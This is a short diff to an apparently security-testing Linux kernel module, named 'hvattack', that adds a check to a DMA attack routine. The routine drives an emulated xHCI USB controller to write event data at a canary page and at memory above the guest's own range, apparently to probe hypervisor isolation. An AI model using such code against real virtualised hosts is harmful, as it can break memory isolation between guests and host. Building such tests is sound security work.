@@ -1378,6 +1378,22 @@ static void attack_dma_events(void)
 		outcome("dma events", false, !x ? "NO XHCI" : !canary || !dma_high ? "NO TARGET (canary=, dma_high=)" : "NO MEMORY");
 		goto out;
 	}
+	/* First into a ring of the module's own (the page's second half),
+	 * where the event can be seen: the controller writes events at all,
+	 * and the port's change bits are in the state the attack needs. Up to
+	 * three resets: the driver may have left a change bit pending. */
+	volatile u32 *own = (volatile u32 *)seg + 512;
+	int tries = 0;
+	while (tries < 3 && ((own[3] >> 10) & 0x3f) != 34) {   /* TRB type 34: port status change event */
+		dma_events_to(bar, seg, virt_to_phys(seg) + 2048, "own ring", 1);
+		tries++;
+	}
+	pr_info("hvattack: dma events own ring: event type %u after %d port reset(s) -> %s\n", (own[3] >> 10) & 0x3f,
+		tries, ((own[3] >> 10) & 0x3f) == 34 ? "written" : "NO EVENT");
+	if (((own[3] >> 10) & 0x3f) != 34) {
+		failures++;
+		goto out;
+	}
 	dma_events_to(bar, seg, canary & PAGE_MASK, "canary", 1);
 	dma_events_to(bar, seg, dma_high & ~0x3full, "above the guest's memory", 1);
 	/* TRB 0 at 0x40 (its DWORDs at 0x48 and 0x4c: bit 4 clear,
